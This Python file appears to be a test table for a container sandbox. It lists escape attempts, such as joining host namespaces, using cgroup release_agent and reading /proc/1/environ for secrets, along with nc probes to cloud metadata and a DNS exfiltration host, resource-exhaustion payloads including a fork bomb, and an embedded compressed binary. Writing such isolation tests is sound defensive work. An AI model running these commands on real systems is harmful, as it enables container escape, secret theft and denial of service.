"""The attacks, as a table: what the app does, what must hold, and where it does not.

`GLANCES` are tried one after the other in one container, and each exits with 0 only if it got
what it wanted. `DEEDS` have a container of their own and an end that is agreed on.
"""

from __future__ import annotations

import base64
import lzma
from collections.abc import Mapping
from dataclasses import dataclass, field

_GVISOR = (
    "gVisor has a kernel of its own: what is made or read is a thing of it, not of the host."
)
_SYS = """
/Td6WFoAAATm1rRGAgAhARwAAAAQz1jM4ANXAcxdAD+RRYRoPYmm2orMk+JO2Qep7095M1x9Dv9E3Frxl49s4uPk
dY4iCdqQTsfHgERpz8rDPguIegc2d0C+HyB+LD995K0aFjxkVHQqQjUYI0lIgMq/8+8pDNBYlwRP0bOMwaECsR2r
Ksl46V2Gse3dXa/aEh5rAh6xFEDg6FQ63yRP7VznBirKOtE2MVBJufTkpT89U292P5IC7jFO08OnmSc1XYIXjEME
sRxoClA/5MrnA1F6SzTAnBP9MoLVVrWyC4MSg9/Jhvq3PY9eUahK1umXtrVuMDYExqb4vewnlMd6/I8AXV9BlySs
wXRG6TzQBkdryFviExCKpBHtS5BFaOFLjSY+3AAQdklFFriusHZtHE2ri1gjYqDIrTgABsfVPYH+8KVLhDjFoogZ
2gPJP0Gd0nRP2YymhW75MltQ47azKOkfWD41XQ9Dh5G/lQb5q4vvxwbbKSLLDQNbphfaYpYhLMJMQWvjnQBY0YVL
DYyrOYFajRvsvZ61VO8ErnS8DFt5Lx/YaemAx3bJ5KnvaVh6c2Qvi0woa+bYntnVYBhvp3ppi8rYk48KfCQPKhKV
MArh4wakFm/gn0IdQL/iklH9tTD4GogEKSZb94oAkyy/vPCeNBcAAegD2AYAACbaj5mxxGf7AgAAAAAEWVo=
"""


def sys_program() -> bytes:
    """`sys.c` beside this file, compiled for x86_64: system calls from the command line."""
    return lzma.decompress(base64.b64decode(_SYS))


@dataclass(frozen=True, slots=True)
class Glance:
    """One try; it is held off when the script fails."""

    name: str
    what: str
    """What the app tries, for the page."""
    script: str
    """Shell; `{name}` stands for what the test prepared on the host."""
    lets: Mapping[str, str] = field(default_factory=dict)
    """Executors that let it, each with the reason why that is no harm."""


def sys(name: str, what: str, call: str, **lets: str) -> Glance:
    """A try by bare system calls: by number, on x86_64."""
    return Glance(name, what, f"/bin/sys {call}", lets)


GLANCES: tuple[Glance, ...] = (
    # Privileges.
    Glance("setuid", "a setuid-root program of the image makes a user root",
           '[ "$(/bin/rootly id -u)" = 0 ]'),
    Glance("setuid-own", "it makes a setuid program itself and runs it",
           "cp /bin/busybox /iexec_out/b && chmod 4755 /iexec_out/b;"
           " u=$(/iexec_out/b id -u); rm -f /iexec_out/b; [ $u != $(id -u) ]"),
    Glance("setuid-call", "setuid(0) as another user", "[ $(id -u) != 0 ] && /bin/sys 105 0"),
    sys("new-user-namespace", "becomes root in a user namespace of its own",
        "272 268435456", runsc=_GVISOR),
    sys("new-mount-namespace", "a mount namespace of its own", "272 131072", runsc=_GVISOR),
    sys("clone-namespace", "clone with a new user namespace",
        "56 268435456 0 0 0 0", runsc=_GVISOR),
    sys("setns", "joins the namespaces of process 1",
        "2 @/proc/1/ns/mnt 0 , 308 r 0"),
    sys("chroot", "chroot, the first step out of a folder", "161 @/tmp"),
    sys("pivot-root", "pivot_root", "155 @/tmp @/tmp"),
    Glance("mount", "mounts a file system", "mount -t tmpfs none /tmp"),
    Glance("mount-proc", "mounts a proc of its own", "mount -t proc none /tmp"),
    Glance("remount-root", "makes the root writable", "mount -o remount,rw /"),
    Glance("unmount", "takes away what hides parts of /proc", "umount /proc/kcore"),
    sys("open-tree", "the new mount calls", "428 -100 @/ 1"),
    Glance("device-node", "makes a node of the host's disk",
           "mknod /tmp/disk b 254 0 || mknod /iexec_out/disk b 8 0",
           {"runsc": _GVISOR}),
    Glance("devices", "finds a disk, kernel memory or a loop device in /dev",
           "ls /dev | grep -q -E '^(sd|vd|nvme|loop|kvm|mem|kmsg|port|fuse|tun)'",
           {"runsc": _GVISOR}),
    # Other processes and the kernel.
    sys("ptrace", "traces a process of the host", "101 16 {pid} 0 0"),
    sys("read-memory", "reads the memory of a process of the host", "310 {pid} %00 1 %00 1 0"),
    Glance("host-processes", "sees processes that are not its own",
           "[ $(ls /proc | grep -c '^[0-9]') -gt 12 ]"),
    Glance("kill-all", "kills a process of the host", "kill -9 {pid}"),
    Glance("proc-sys", "changes the kernel by /proc/sys",
           "echo 1 >/proc/sys/kernel/panic || echo x >/proc/sys/kernel/core_pattern"),
    Glance("sysrq", "crashes the machine by /proc/sysrq-trigger",
           "echo h >/proc/sysrq-trigger"),
    Glance("sys-write", "writes to /sys",
           "echo 0 >/sys/kernel/mm/ksm/run || echo 0 >/sys/module/printk/parameters/time"),
    Glance("cgroup-write", "raises its own limits",
           "f=$(find /sys/fs/cgroup -name memory.limit_in_bytes -o -name memory.max"
           " 2>/dev/null | head -1); [ -n \"$f\" ] && echo 99999999999 >$f"),
    Glance("release-agent", "has the kernel call it by a control group",
           "f=$(find /sys/fs/cgroup -name release_agent 2>/dev/null | head -1);"
           " [ -n \"$f\" ] && echo /bin/true >$f"),
    Glance("kcore", "reads the kernel's memory",
           "[ $(head -c 16 /proc/kcore 2>/dev/null | wc -c) -gt 0 ]"),
    sys("dmesg", "reads the kernel's log", "103 3 @xxxxxxxxxxxxxxxx 16", runsc=_GVISOR),
    Glance("kmsg", "reads the kernel's log by its file",
           "dd if=/dev/kmsg bs=1 count=1 || dd if=/proc/kmsg bs=1 count=1"),
    sys("clock", "sets the clock of the machine", "227 0 %{now}0000000000000000"),
    sys("clock-old", "sets it by settimeofday",
        "164 %{now}0000000000000000 0"),
    sys("adjtime", "bends the clock", "305 0 %010000000000000000000000000000"),
    sys("key-store", "reads the kernel's keys", "250 0 -3 1 0"),
    sys("key-add", "fills the kernel's key store", "248 @user @x @y 1 -3"),
    sys("bpf", "loads a program into the kernel",
        "321 0 %0100000004000000040000000100000000000000000000000000000000000000 32"),
    sys("perf", "measures the machine with perf_event_open",
        "298 %0100000070000000" + "00" * 104 + " 0 -1 -1 0"),
    sys("userfaultfd", "stops the kernel in the middle of a copy", "323 0"),
    sys("io-uring", "does input and output past the filter", "425 1 %" + "00" * 120,
        docker="The filter of Docker before 25 lets it; what is done by it stays inside.",
        runsc=_GVISOR),
    sys("module", "loads a kernel module", "175 %00 1 @"),
    sys("kexec", "boots another kernel", "246 0 0 0 0"),
    sys("reboot", "reboots (a harmless variant)", "169 4276215469 672274793 0"),
    sys("swapoff", "takes the swap away", "168 @/swap"),
    sys("ioports", "talks to the hardware", "172 3"),
    sys("by-handle", "opens host files by handle, past every mount",
        "2 @/iexec_in 0 , 304 r %0800000001000000020000000000000000 0"),
    sys("terminal-input", "types into the terminal of the operator", "16 0 21522 @x"),
    # The host's files and secrets.
    Glance("host-file", "reads a file of the host by its path", "cat {marker}"),
    Glance("host-write", "writes to a file of the host through a link",
           "ln -s {marker} /iexec_out/w && echo pwned >/iexec_out/w"),
    Glance("hard-link", "makes a hard link to a file of the host",
           "ln /iexec_in/data.txt /iexec_out/hard || ln {marker} /iexec_out/hard"),
    Glance("input-write", "changes its input", "echo x >>/iexec_in/data.txt"),
    Glance("root-write", "changes a program of the image for the next job",
           "cp /bin/busybox /bin/sh2 || echo x >>/etc/passwd"),
    Glance("environment", "finds the worker's secrets in its environment",
           "env | grep -q -i -E 'password|secret|wallet|token|{secret}'"),
    Glance("parent-environment", "finds them in the environment of process 1",
           "tr '\\0' '\\n' </proc/1/environ | grep -q {secret}"),
    Glance("descriptors", "uses descriptors that were left open",
           "for f in /proc/self/fd/*; do case $(readlink $f) in"
           " pipe:*|/dev/null|/proc/*|'') ;; *) echo $f; esac; done | grep -q ."),
    Glance("docker-socket", "talks to the container runtime",
           "find / -xdev \\( -name 'docker*.sock' -o -name 'containerd*.sock' \\)"
           " 2>/dev/null | grep -q ."),
    Glance("other-jobs", "finds the files of another job",
           "find / -name {other} 2>/dev/null | grep -q ."),
    # The network, under `none`.
    Glance("internet", "reaches the internet", "nc -w 1 1.1.1.1 80 </dev/null"),
    Glance("metadata", "reads the cloud's metadata", "nc -w 1 169.254.169.254 80 </dev/null"),
    Glance("loopback", "reaches a service on the loopback of the host",
           "nc -w 1 127.0.0.1 {port} </dev/null"),
    Glance("host-address", "reaches the host by its address in the network",
           "nc -w 1 {address} {port} </dev/null"),
    Glance("dns", "sends data out as a name that is looked up",
           "nc -w 1 secret-data.example.org 80 </dev/null"),
    sys("dns-udp", "asks a name server directly",
        "41 2 2 0 , 42 r %0200003508080808" + "00" * 8 + " 16"),
    sys("abstract-socket", "reaches a socket of the host that has no file",
        "41 1 1 0 , 42 r %{abstract} {abstract_size}"),
    sys("raw-socket", "sends packets of its own making", "41 2 3 255"),
    sys("packet-socket", "listens to the packets of others", "41 17 3 768"),
    sys("vsock", "talks to the hypervisor",
        "41 40 1 0 , 42 r %28000000090000000200000000000000 16"),
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Deed:
    """What an app does to the end, and how that ends."""

    name: str
    what: str
    script: str
    ends: tuple[str, ...] = ("exited",)
    """Values of `Ended`, one of which it must be."""
    refused: str | None = None
    """The protocol's name for why its output is no result; None: it is one, or none is left."""
    limits: Mapping[str, float] = field(default_factory=dict)
    quick: bool = False
    """Whether it runs in every test run, not only in the long ones."""


def said(path: str) -> str:
    """Shell that leaves a result which names `path`."""
    return f"""echo '{{"deterministic-output-path": "{path}"}}' >/iexec_out/computed.json;"""


_GOOD = said("/iexec_out/r") + "echo r >/iexec_out/r;"
_NO_DIGEST = "POST_COMPUTE_RESULT_DIGEST_COMPUTATION_FAILED"
_NO_ZIP = "POST_COMPUTE_OUT_FOLDER_ZIP_FAILED"

DEEDS: tuple[Deed, ...] = (
    # Eating.
    Deed("fork-bomb", "a fork bomb", "b() { b | b & }; b; b; sleep 20",
         ("timed out", "exited"), limits={"pids": 30, "time": 1.5}),
    Deed("memory", "takes all memory", "tail -c 900m /dev/zero",
         ("out of memory", "exited"), limits={"memory": 32 << 20}),
    Deed("tmp", "fills the folders that are memory",
         "for d in /tmp /dev/shm; do dd if=/dev/zero of=$d/x bs=1M count=500; done 2>/dev/null;"
         " [ $(du -m /tmp | tail -1 | cut -f1) -lt 200 ]",
         ("exited", "out of memory")),
    Deed("disk", "writes a gigabyte", "dd if=/dev/zero of=/iexec_out/x bs=1M count=1024",
         ("disk full",)),
    Deed("sparse", "claims ten gigabytes without writing any",
         "truncate -s 10G /iexec_out/x", ("disk full", "exited")),
    Deed("hard-link-sum", "a large file under a hundred names",
         "dd if=/dev/urandom of=/iexec_out/x bs=1M count=4; i=0; while [ $i -lt 100 ];"
         " do ln /iexec_out/x /iexec_out/x$i; i=$((i+1)); done", ("disk full",)),
    Deed("many-files", "twenty thousand files",
         "cd /iexec_out; i=0; while [ $i -lt 20000 ]; do : >$i || break; i=$((i+1)); done",
         ("disk full",), limits={"time": 60.0}),
    Deed("deep", "two hundred folders inside each other",
         "cd /iexec_out; i=0; while [ $i -lt 200 ]; do mkdir d; cd d; i=$((i+1)); done",
         ("disk full",)),
    Deed("flood", "prints without end", "yes flood", ("timed out",), limits={"time": 1.5}),
    # Not ending.
    Deed("deaf", "ignores SIGTERM and every other signal that it can",
         "trap '' TERM INT HUP QUIT USR1; while :; do sleep 9; done", ("timed out",),
         limits={"time": 1.0}),
    Deed("stopped", "stops itself", "kill -STOP $$; kill -STOP 1; sleep 60", ("timed out",),
         limits={"time": 1.0}),
    Deed("silent", "closes its output and goes on", "exec >&- 2>&-; sleep 60", ("timed out",),
         limits={"time": 1.0}),
    Deed("daemon", "leaves a daemon behind, twice forked, in a session of its own",
         _GOOD + "(setsid sleep {mark} >/dev/null 2>&1 &); (setsid sleep {mark} &) & exit 0",
         quick=True),
    Deed("zombies", "leaves children whom nobody waits for",
         _GOOD + "i=0; while [ $i -lt 40 ]; do (sleep 0 & exec sleep {mark}) &"
         " i=$((i+1)); done; sleep 0.3; exit 0"),
    Deed("kill-all", "kills everything that it can see", "kill -9 -1; sleep 60",
         ("exited", "killed", "timed out"), limits={"time": 2.0}),
    # Output that leads out, or astray.
    Deed("link-out", "a link to a secret of the host in its output",
         _GOOD + "ln -s {marker} /iexec_out/link; ln -s / /iexec_out/root", quick=True),
    Deed("link-result", "the result itself is a link to the host's files",
         said("/iexec_out/link/passwd") + "ln -s /etc /iexec_out/link", refused=_NO_DIGEST),
    Deed("pointer-out", "names a result outside by `..`",
         said("/iexec_out/../etc/passwd"), refused=_NO_DIGEST),
    Deed("pointer-absolute", "names a result outside by its path", said("/etc/passwd"),
         refused=_NO_DIGEST),
    Deed("fifo", "a FIFO, at which a reader would wait for ever",
         _GOOD + "mkfifo /iexec_out/pipe; (echo x >/iexec_out/pipe) & exit 0", quick=True),
    Deed("socket", "a socket in its output",
         _GOOD + "/bin/sys 41 1 1 0 , 49 r %01002f69657865635f6f75742f736f636b00 18; exit 0"),
    Deed("device", "a device in its output", _GOOD + "mknod /iexec_out/sda b 8 0; exit 0"),
    Deed("bad-name", "a name that is not UTF-8",
         _GOOD + "echo x >/iexec_out/$(printf 'a\\377b')", refused=_NO_ZIP),
    Deed("odd-names", "names with new lines, blanks, options and backslashes",
         _GOOD + "cd /iexec_out; for n in '-rf' '..x' '..\\..\\x' ' ' 'C:x'"
         " \"$(printf 'a\\nb')\"; do echo x >\"./$n\"; done"),
    Deed("long-name", "a name that is longer than the protocol allows",
         _GOOD + "echo x >/iexec_out/nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
         refused="POST_COMPUTE_TOO_LONG_RESULT_FILE_NAME"),
    Deed("closed", "files and folders that nobody may read",
         _GOOD + "cd /iexec_out; mkdir d; echo x >d/x; chmod 0 d r"),
    Deed("changing", "goes on writing while its output is packed",
         _GOOD + "(setsid sh -c 'while :; do echo x >>/iexec_out/r2; done' >/dev/null 2>&1 &);"
         " sleep 0.1; exit 0"),
    Deed("compressible", "eight megabytes that are packed into some kilobytes",
         _GOOD + "dd if=/dev/zero of=/iexec_out/zeros bs=1M count=7"),
)  # fmt: skip
